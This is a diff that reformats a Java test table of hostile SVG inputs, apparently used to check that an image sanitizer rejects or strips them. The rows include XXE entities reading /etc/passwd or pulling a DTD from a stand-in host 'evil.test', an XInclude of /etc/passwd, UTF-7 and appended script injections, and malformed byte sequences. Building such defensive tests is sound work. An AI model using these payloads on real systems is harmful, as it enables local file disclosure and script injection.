@@ -74,43 +74,77 @@ final class SvgRows {
 
     static List<Row> all() {
         return List.of(
-                rows("scripts, handlers, addresses and animations", renditions().or(malformed()).without(MARKS), () ->
-                        Stream.of(TRICKS).map(trick -> drawing(trick))),
-                row("XXE of a file", malformed(), () ->
-                        withSubset("<!ENTITY x SYSTEM 'file:///etc/passwd'>", "<text y='9'>&x;</text>")),
-                row("XXE of an address", malformed(), () ->
-                        withSubset("<!ENTITY x SYSTEM 'http://evil.test/'>", "<text y='9'>&x;</text>")),
-                row("XXE through a parameter entity", malformed().or(renditions()).without(MARKS), () ->
-                        withSubset("<!ENTITY % x SYSTEM 'http://evil.test/x.dtd'>%x;", "<rect width='9' height='9'/>")),
-                row("external document type", renditions().without(MARKS), () -> utf8(
-                        "<?xml version='1.0'?><!DOCTYPE svg SYSTEM 'http://evil.test/x.dtd'>" + ROOT + "</svg>")),
-                row("XInclude", renditions().or(malformed()).without(MARKS), () -> drawing(
-                        "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/>")),
-                row("UTF-16", renditions().or(malformed()).without(MARKS), () ->
-                        encoded(StandardCharsets.UTF_16)),
-                row("UTF-16 that says it is UTF-8", renditions().or(malformed()).without(MARKS), () ->
-                        encoded(StandardCharsets.UTF_16LE)),
-                row("UTF-7", unsupported("UTF-7"), () -> utf8("<?xml version='1.0' encoding='UTF-7'?>"
-                        + ROOT + "+ADw-script+AD4-alert(1)+ADw-/script+AD4-</svg>")),
-                row("an encoding that nobody has", unsupported("EVIL"), () ->
-                        utf8("<?xml version='1.0' encoding='EVIL'?>" + ROOT + "</svg>")),
-                row("overlong UTF-8", malformed(), () -> ByteWriter.join(
-                        utf8(ROOT), new byte[] {(byte) 0xC0, (byte) 0xBC, 's', '>'}, utf8("</svg>"))),
-                row("zero bytes", malformed().or(unrecognized()), () ->
-                        ByteWriter.join(utf8(ROOT), new byte[9], utf8("</svg>"))),
-                row("HTML behind the drawing", malformed(), () ->
-                        ByteWriter.join(Innocent.svg(), utf8("<script>alert(1)</script>"))),
+                rows(
+                        "scripts, handlers, addresses and animations",
+                        renditions().or(malformed()).without(MARKS),
+                        () -> Stream.of(TRICKS).map(trick -> drawing(trick))),
+                row(
+                        "XXE of a file",
+                        malformed(),
+                        () -> withSubset("<!ENTITY x SYSTEM 'file:///etc/passwd'>", "<text y='9'>&x;</text>")),
+                row(
+                        "XXE of an address",
+                        malformed(),
+                        () -> withSubset("<!ENTITY x SYSTEM 'http://evil.test/'>", "<text y='9'>&x;</text>")),
+                row(
+                        "XXE through a parameter entity",
+                        malformed().or(renditions()).without(MARKS),
+                        () -> withSubset(
+                                "<!ENTITY % x SYSTEM 'http://evil.test/x.dtd'>%x;", "<rect width='9' height='9'/>")),
+                row(
+                        "external document type",
+                        renditions().without(MARKS),
+                        () -> utf8("<?xml version='1.0'?><!DOCTYPE svg SYSTEM 'http://evil.test/x.dtd'>" + ROOT
+                                + "</svg>")),
+                row(
+                        "XInclude",
+                        renditions().or(malformed()).without(MARKS),
+                        () -> drawing(
+                                "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/>")),
+                row("UTF-16", renditions().or(malformed()).without(MARKS), () -> encoded(StandardCharsets.UTF_16)),
+                row(
+                        "UTF-16 that says it is UTF-8",
+                        renditions().or(malformed()).without(MARKS),
+                        () -> encoded(StandardCharsets.UTF_16LE)),
+                row(
+                        "UTF-7",
+                        unsupported("UTF-7"),
+                        () -> utf8("<?xml version='1.0' encoding='UTF-7'?>" + ROOT
+                                + "+ADw-script+AD4-alert(1)+ADw-/script+AD4-</svg>")),
+                row(
+                        "an encoding that nobody has",
+                        unsupported("EVIL"),
+                        () -> utf8("<?xml version='1.0' encoding='EVIL'?>" + ROOT + "</svg>")),
+                row(
+                        "overlong UTF-8",
+                        malformed(),
+                        () -> ByteWriter.join(
+                                utf8(ROOT), new byte[] {(byte) 0xC0, (byte) 0xBC, 's', '>'}, utf8("</svg>"))),
+                row(
+                        "zero bytes",
+                        malformed().or(unrecognized()),
+                        () -> ByteWriter.join(utf8(ROOT), new byte[9], utf8("</svg>"))),
+                row(
+                        "HTML behind the drawing",
+                        malformed(),
+                        () -> ByteWriter.join(Innocent.svg(), utf8("<script>alert(1)</script>"))),
                 row("HTML that begins as HTML", disallowed(Format.HTML), () -> utf8("<html>" + ROOT + "</svg></html>")),
-                row("a JPEG inside, with GPS in it", renditions().without("LEAK"), () -> drawing(
-                        "<image width='9' height='9' href='data:image/jpeg;base64,"
+                row(
+                        "a JPEG inside, with GPS in it",
+                        renditions().without("LEAK"),
+                        () -> drawing("<image width='9' height='9' href='data:image/jpeg;base64,"
                                 + Base64.getEncoder().encodeToString(MetadataRows.jpeg())
                                 + "'/>")),
-                rows("pictures inside that are none", renditions().or(malformed()), () -> Stream.of(
-                                "iVBORw0KGgo=", "/9j/", "R0lGODlh", "UklGRv///39XRUJQ", "AAAA", "====", "")
-                        .map(data -> drawing(
-                                "<image width='9' height='9' href='data:image/png;base64," + data + "'/>"))),
-                rows("SVG truncated at every byte", unrecognized().or(malformed()), () ->
-                        Row.beginnings(Innocent.svg())));
+                rows(
+                        "pictures inside that are none",
+                        renditions().or(malformed()),
+                        () -> Stream.of("iVBORw0KGgo=", "/9j/", "R0lGODlh", "UklGRv///39XRUJQ", "AAAA", "====", "")
+                                .map(data -> drawing(
+                                        "<image width='9' height='9' href='data:image/png;base64," + data + "'/>"))),
+                rows(
+                        "SVG truncated at every byte",
+                        unrecognized().or(malformed()),
+                        () -> Row.beginnings(Innocent.svg())));
     }
 
     private static Row row(String name, Expected expected, Supplier<byte[]> input) {
@@ -122,7 +156,8 @@ final class SvgRows {
     }
 
     private static byte[] encoded(Charset charset) {
-        return ("<?xml version='1.0' encoding='UTF-8'?>" + ROOT + "<script>alert(1)</script><rect width='9' height='9'/></svg>")
+        return ("<?xml version='1.0' encoding='UTF-8'?>" + ROOT
+                        + "<script>alert(1)</script><rect width='9' height='9'/></svg>")
                 .getBytes(charset);
     }
 }
